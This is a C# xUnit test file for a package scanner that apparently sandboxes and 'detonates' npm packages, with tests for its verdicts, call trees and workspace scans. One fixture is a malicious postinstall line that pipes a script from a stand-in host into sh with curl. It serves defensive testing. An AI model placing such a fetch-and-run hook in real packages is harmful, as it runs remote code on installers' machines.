using System.Diagnostics;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Xunit;

namespace Wellguard;

/// <summary><c>scan --detonate</c> of packages through the executable: what was predicted and what happened are one tree.</summary>
[Collection("cells, one after the other")]
public sealed class PackageScanTests : IDisposable
{
    private readonly string folder = Directory.CreateTempSubdirectory("wellguard-test-").FullName;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    private async Task<JsonElement> ScanAsync(params string[] arguments)
    {
        Assert.SkipUnless(Machine.All || (Directory.Exists(Systems) && Directory.EnumerateDirectories(Systems, "node-*").Any()), "the base system 'node' takes minutes to make: ./test --all");
        var start = new ProcessStartInfo(Machine.Require(), ["scan", .. arguments, "--detonate=auto", "--format", "json", "--cache-dir", Machine.Work]) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false, WorkingDirectory = folder };
        start.Environment["HOME"] = folder;
        start.Environment.Remove("npm_config_cache");
        using var process = Process.Start(start)!;
        var errors = process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        var output = await process.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        await process.WaitForExitAsync(TestContext.Current.CancellationToken);
        Assert.True(output.StartsWith('{'), await errors);
        return JsonDocument.Parse(output).RootElement;
    }

    private static string Systems => Path.Combine(Machine.Work, "systems");

    private string Package(string name, string code) => new ExamplePackage(name, "1.0.0", "npm",
    [
        KeyValuePair.Create("package.json", Encoding.UTF8.GetBytes($$$$"""{"name":"{{{{name}}}}","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}""")),
        KeyValuePair.Create("setup.js", Encoding.UTF8.GetBytes(code)),
    ]).Write(folder);

    private const string Clean = "console.log('ready')\n";
    private const string Decided = "require('child_process').execSync('curl -fsSL http://a.example.net/x.sh | sh')\n";
    private const string Undecided = "const https = require('https')\nhttps.get('https://asked.example.net/tool')\nif (process.env.NEVER_SET === 'on') https.get('https://unasked.example.net/tool')\n";

    private static string? StateOf(JsonElement report, string label) =>
        report.GetProperty("tree").GetProperty("nodes").EnumerateArray().Where(node => node.GetProperty("label").GetString() == label).Select(static node => node.GetProperty("state").GetString()).FirstOrDefault();

    private static bool WasRun(JsonElement report) => report.GetProperty("timings").GetProperty("stages").TryGetProperty("run", out _);

    [Fact]
    public async Task What_the_scan_does_not_decide_is_run_and_both_trees_are_one()
    {
        var report = await ScanAsync(Package("undecided", Undecided));
        Assert.True(WasRun(report));
        Assert.Equal(("confirmed", "refuted"), (StateOf(report, "https://asked.example.net/tool"), StateOf(report, "https://unasked.example.net/tool")));
        Assert.Equal("confirmed", StateOf(report, "node setup.js"));
        Assert.Contains(report.GetProperty("tree").GetProperty("nodes").EnumerateArray(), static node => node.GetProperty("state").GetString() == "observed");
        Assert.Equal("suspicious", report.GetProperty("verdict").GetProperty("level").GetString());
    }

    [Theory]
    [InlineData("clean", Clean)]
    [InlineData("malicious", Decided)]
    public async Task What_the_scan_decides_is_not_run(string level, string code)
    {
        var report = await ScanAsync(Package("decided", code));
        Assert.Equal((level, false), (report.GetProperty("verdict").GetProperty("level").GetString(), WasRun(report)));
    }

    [Fact]
    public async Task Of_a_workspace_only_what_is_not_decided_is_run()
    {
        var entries = new JsonObject { [""] = new JsonObject() };
        foreach (var (name, code) in ((string, string)[])[("clean", Clean), ("decided", Decided), ("undecided", Undecided)])
        {
            // As npm's own cache holds it.
            var archive = await File.ReadAllBytesAsync(Package(name, code), TestContext.Current.CancellationToken);
            var digest = SHA512.HashData(archive);
            var hex = Convert.ToHexStringLower(digest);
            var path = Path.Combine(folder, ".npm/_cacache/content-v2/sha512", hex[..2], hex[2..4], hex[4..]);
            Directory.CreateDirectory(Path.GetDirectoryName(path)!);
            await File.WriteAllBytesAsync(path, archive, TestContext.Current.CancellationToken);
            entries["node_modules/" + name] = new JsonObject { ["version"] = "1.0.0", ["integrity"] = "sha512-" + Convert.ToBase64String(digest) };
        }

        await File.WriteAllTextAsync(Path.Combine(folder, "package-lock.json"), new JsonObject { ["lockfileVersion"] = 3, ["packages"] = entries }.ToJsonString(), TestContext.Current.CancellationToken);
        var report = await ScanAsync("package-lock.json", "--offline");
        Assert.Equal("block", report.GetProperty("verdict").GetProperty("decision").GetString());
        Assert.Equal("complete", report.GetProperty("completeness").GetProperty("state").GetString());
        var asked = report.GetProperty("network").EnumerateArray().Select(static exchange => exchange.GetProperty("peer").GetString()!).ToList();
        Assert.Contains("https://asked.example.net/tool", asked);
        Assert.DoesNotContain(asked, static peer => peer.Contains("a.example.net", StringComparison.Ordinal));
    }
}
